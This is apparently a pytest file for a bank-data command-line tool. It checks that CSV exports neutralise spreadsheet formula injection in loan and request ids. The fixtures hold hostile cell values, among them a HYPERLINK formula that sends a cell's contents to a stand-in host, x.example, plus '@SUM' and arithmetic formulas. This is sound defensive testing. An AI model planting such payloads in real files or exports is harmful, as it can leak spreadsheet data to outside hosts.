"""CSV formula injection through the command line: a loan id, a request id or any text from the bank's files that a
spreadsheet would run as a formula (``=…``, ``+…``, ``-…``, ``@…``) reaches every ``--format csv`` output behind an
apostrophe (``wupian.core.csv_guard``), while amounts and other numbers stay numbers. Run through ``main()`` on a
snapshot loaded from CSV files with hostile ids, as a bank would."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
from pathlib import Path

import pytest

from support import screening_bank
from support.cli_run import run, wupian
from wupian.core.csv_guard import needs_guard

GOOD = Path(__file__).resolve().parents[2] / "golden" / "ingest" / "good_minimal" / "input"
HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"点我")'
AT_SUM = "@SUM(A1:A9)"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_live_formula(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if needs_guard(cell)]
    assert not live, live


@pytest.fixture(scope="module")
def bank(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The minimal snapshot with loan L000003 renamed ``@SUM(A1:A9)`` (loaded) and L000001 renamed to a
    HYPERLINK formula with a negative balance (quarantined)."""
    tmp = tmp_path_factory.mktemp("inject")
    snap = tmp / "snap"
    shutil.copytree(GOOD, snap)
    loans = snap / "loans.csv"
    text = loans.read_text(encoding="utf-8")
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    text = text.replace("L000001,K0001,O001,C01,2025-06-30,8000000.00,2027-06-29,7500000.00",
                        f"{quoted},K0001,O001,C01,2025-06-30,8000000.00,2027-06-29,-7500000.00")
    text = text.replace("\nL000003,", f"\n{AT_SUM},")
    loans.write_text(text, encoding="utf-8")
    db = str(tmp / "w.duckdb")
    assert wupian("--db", db, "load", "--as-of", "2026-03-31", str(snap)) == 1  # 1: the formula row quarantined
    return db


def test_classify_csv_guards_the_loan_id_and_keeps_amounts_numbers(bank: str,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["--db", bank, "classify", "--as-of", "2026-03-31", "--format", "csv"], capsys)
    assert code == 0 and "Traceback" not in err
    rows = _rows(out)
    mine = [r for r in rows[1:] if r[0] == "'" + AT_SUM]
    assert mine and all(r[2] == "500000.00" for r in mine)  # the amount a number, not guarded
    _no_live_formula(rows)


def test_indicator_explain_and_indicators_csv(bank: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["--db", bank, "indicators", "--as-of", "2026-03-31", "--explain", "inclusive.balance",
                        "--branch", "O001", "--format", "csv"], capsys)
    assert code == 0
    rows = _rows(out)
    assert rows[1][0] == "'" + AT_SUM and rows[1][rows[0].index("amount")] == "500000.00"
    _no_live_formula(rows)
    code, out, _ = run(["--db", bank, "indicators", "--as-of", "2026-03-31", "--format", "csv"], capsys)
    assert code == 0
    rows = _rows(out)
    values = [r[rows[0].index("value")] for r in rows[1:] if r[rows[0].index("value")]]
    assert values and all(not v.startswith("'") for v in values)  # values (negative changes too) stay numbers
    _no_live_formula(rows)


def test_the_quarantined_formula_is_reported_as_text(bank: str, capsys: pytest.CaptureFixture[str]) -> None:
    """The quarantined row keeps its raw text (nothing lost) in the table view: no CSV is written there."""
    code, out, _ = run(["--db", bank, "quarantine", "--as-of", "2026-03-31"], capsys)
    assert code == 0 and "HYPERLINK" in out


@pytest.fixture(scope="module")
def screening_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("inject_screen")
    requests = [screening_bank.request(HYPERLINK, "K0102", "A102", "cash_withdrawal", "50000.00"),
                screening_bank.request("-2+3", "K0103", "A103", "cash_withdrawal", "160000.00",
                                       accompanied_by="family")]
    screening_bank.build(tmp, requests=requests, observations=[(HYPERLINK, "hurried", "=1+1")]).close()
    return tmp / "w.duckdb"


def test_screening_batch_and_case_list_csv(screening_db: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    db = str(screening_db)
    code, out, err = run(["--db", db, "screen", "--all", "--from", "2026-02-01", "--to", "2026-02-28",
                          "--format", "csv"], capsys)
    assert code == 0, err
    rows = _rows(out)
    by_id = {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_id) == {"'" + HYPERLINK, "'-2+3"}
    assert by_id["'-2+3"]["amount"] == "160000.00"
    _no_live_formula(rows)
    teller = {"request_id": "+" + HYPERLINK[1:], "requested_at": "2026-02-10 10:00", "branch_id": "O001",
              "customer_id": "K0102", "account_id": "A102", "request_type": "取现", "amount": "50000"}
    monkeypatch.setattr(sys, "stdin", io.StringIO(json.dumps(teller, ensure_ascii=False)))
    code, _, err = run(["--db", db, "screen", "-"], capsys)  # a high-band request at the counter opens a case
    assert code == 0, err
    code, out, _ = run(["--db", db, "cases", "list", "--format", "csv"], capsys)
    assert code == 0
    rows = _rows(out)
    _no_live_formula(rows)
    request_ids = [r[rows[0].index("request_ids")] for r in rows[1:]]
    assert request_ids == ["'+" + HYPERLINK[1:]]
    assert rows[1][rows[0].index("customer_id")] == "K0102"
